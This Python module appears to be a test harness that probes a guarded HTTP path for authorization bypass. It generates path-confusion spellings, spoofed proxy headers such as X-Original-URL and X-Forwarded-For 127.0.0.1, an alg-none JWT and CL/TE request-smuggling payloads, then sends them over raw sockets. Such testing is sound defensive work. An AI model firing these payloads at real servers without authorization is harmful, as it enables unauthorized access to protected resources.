"""Requests that one reader takes for another: paths, headers, framing; written as bytes, since no client sends them."""

import socket
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import urlsplit

PATIENCE = 20.0
# How a guarded path may be spelt so that somebody takes it for a public one, or for itself without its guard.
SPELLINGS = (
    "{path}",
    "{path}/",
    "/{path}",
    "//host{path}",
    "{path}?",
    "{path}#",
    "{path}%00",
    "{path}%2f",
    "{path};x=1",
    "{path}.json",
    "{path}%20",
    "/.{path}",
    "/./{path}",
    "/healthz/..{path}",
    "/healthz%2f..{path}",
    "/healthz;{path}",
    "/healthz?{path}",
    "{path}/../healthz",
    "{path}%3f",
    "{upper}",
    "{percent}",
    "\\{path}",
    "http://host{path}",
)
# What proxies believe and servers behind them must not.
HEADERS = (
    ("X-Original-URL", "/healthz"),
    ("X-Rewrite-URL", "/healthz"),
    ("X-HTTP-Method-Override", "GET"),
    ("X-Forwarded-For", "127.0.0.1"),
    ("X-Forwarded-User", "olga"),
    ("X-Forwarded-Proto", "https"),
    ("Forwarded", "for=127.0.0.1;by=olga"),
    ("X-Remote-User", "olga"),
    ("Remote-User", "olga"),
    ("Authorization", ""),
    ("Authorization", "Bearer"),
    ("Authorization", "Bearer  "),
    ("Authorization", "Basic b2xnYTpvbGdh"),
    ("Authorization", "Bearer null"),
    ("Authorization", "Bearer eyJhbGciOiJub25lIn0.e30."),
    ("Authorization", "\u0412earer x"),
    ("Cookie", "session=olga; token=olga"),
    ("Origin", "null"),
    ("Host", "localhost"),
)
METHODS = (
    "GET",
    "get",
    "HEAD",
    "POST",
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "PUT",
    "DELETE",
    "PATCH",
    "PROPFIND",
    "G\u00cbT",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Answer:
    """The head of an answer; `more` is whether a second one came behind it."""

    status: int
    body: bytes
    more: bool


def requests(path: str) -> Iterator[bytes]:
    """Every confusing request for a guarded path, without a token that holds."""
    percent = "/" + "".join(f"%{ord(one):02x}" if one.isalnum() else one for one in path[1:])
    for spelling in SPELLINGS:
        yield written("GET", spelling.format(path=path, upper=path.upper(), percent=percent))
    for method in METHODS:
        yield written(method, path)
    for name, value in HEADERS:
        yield written("GET", path, (name, value))
    yield written("GET", path, ("Authorization", "Bearer x"), ("Authorization", "Bearer y"))
    yield written("GET", path, (" Authorization", "Bearer x"))
    yield written("GET", path, ("Authorization\t", "Bearer x"))
    yield written("GET", path, ("X", "a\r\n b"))
    yield written("GET", path, ("X", "a" * 70_000))
    yield b"GET " + path.encode() + b"\r\n\r\n"
    yield b"GET " + path.encode() + b" HTTP/3.7\r\nHost: x\r\n\r\n"


def smuggled(path: str, hidden: str) -> Iterator[bytes]:
    """Two requests in one, for readers that disagree where the first ends."""
    inner = f"GET {hidden} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode()
    size = str(len(inner))
    for framing in (
        (("Content-Length", size), ("Transfer-Encoding", "chunked")),
        (("Transfer-Encoding", "chunked"), ("Content-Length", "4")),
        (("Content-Length", "0"), ("Content-Length", size)),
        (("Content-Length", f"+{size}"),),
        (("Content-Length", f"{size}, 0"),),
        (("Transfer-Encoding", "xchunked"),),
        (("Transfer-Encoding", "chunked, identity"),),
        (("Transfer-Encoding\t", "chunked"),),
    ):
        yield written("POST", path, *framing, body=b"0\r\n\r\n" + inner)


def written(method: str, target: str, *headers: tuple[str, str], body: bytes = b"") -> bytes:
    lines = [f"{method} {target} HTTP/1.1"]
    if not any(name == "Host" for name, _ in headers):
        lines.append("Host: bank.example")
    lines += [f"{name}: {value}" for name, value in headers]
    return "\r\n".join([*lines, "Connection: close", "", ""]).encode() + body


def ask(url: str, request: bytes) -> Answer:
    """Send the bytes as they are; status 0 if the server hung up without a word."""
    place = urlsplit(url)
    with socket.create_connection((place.hostname or "", place.port or 80), timeout=PATIENCE) as connection:
        try:
            connection.sendall(request)
            connection.shutdown(socket.SHUT_WR)
            told = b"".join(iter(lambda: connection.recv(65536), b""))
        except ConnectionError:
            told = b""
    if not told.startswith(b"HTTP/1."):
        return Answer(status=0, body=told, more=False)
    head, _, body = told.partition(b"\r\n\r\n")
    return Answer(status=int(head.split()[1]), body=body, more=b"HTTP/1." in body)
